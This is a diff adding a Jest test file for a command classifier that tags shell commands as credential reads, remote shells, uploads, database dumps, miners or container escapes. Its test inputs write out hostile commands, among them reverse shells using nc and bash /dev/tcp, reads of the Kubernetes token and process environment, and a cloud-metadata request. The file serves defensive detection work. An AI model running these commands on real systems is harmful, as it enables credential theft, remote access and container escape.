@@ -1,0 +1,36 @@
+import { describe, expect, test } from '@jest/globals';
+import fc from 'fast-check';
+import { commandKinds } from '../../../lib/audit/commands.ts';
+
+describe('sees in', () => {
+  test.each<[string, string[]]>([
+    ['cat /var/run/secrets/kubernetes.io/serviceaccount/token', ['credentials']],
+    ['cat /proc/self/environ', ['credentials']],
+    ['curl http://169.254.169.254/latest/api/token', ['metadata']],
+    ['nc -e /bin/sh 203.0.113.9 4444', ['remote-shell']],
+    ['bash -i >& /dev/tcp/203.0.113.9/443 0>&1', ['remote-shell']],
+    ['python3 -c import socket,subprocess', ['remote-shell']],
+    ['pip install x', ['download']],
+    ['tar cf - /data', ['archive']],
+    ['tar -czf - /data', ['archive']],
+    ['sh -c tar --create -f - /data', ['archive']],
+    ['curl -T /data 203.0.113.9', ['upload']],
+    ['aws s3 cp /data s3://x/', ['upload']],
+    ['pg_dump -h db shop', ['dump']],
+    ['redis-cli -h db --rdb /tmp/x', ['dump']],
+    ['./x -o stratum+tcp://203.0.113.9', ['miner']],
+    ['nsenter -t 1 -m sh', ['escape']],
+    ['chroot /host sh', ['escape']],
+  ])('"%s" %j', (command, kinds) => { expect(commandKinds(command)).toEqual(kinds); });
+});
+
+describe('sees nothing in', () => {
+  test.each(['', 'sh', 'ls -la /data', 'env', 'node server.js', 'psql -h db shop', 'tar xf x.tar', 'redis-cli ping', 'cat /etc/hosts', 'top -c'])('"%s"', (command) => {
+    expect(commandKinds(command)).toEqual([]);
+  });
+});
+
+test('reads the beginning of any command, however made', () => {
+  const words = fc.constantFrom('tar c ', 'curl -F a', ' -', '|sh', 'nc -', 'python ', 'socket', '\u0000', 'x'.repeat(5000), 'zip ');
+  fc.assert(fc.property(fc.array(words, { maxLength: 2000 }).map((parts) => parts.join('')), (command) => { expect(commandKinds(command).length).toBeLessThanOrEqual(9); }));
+});
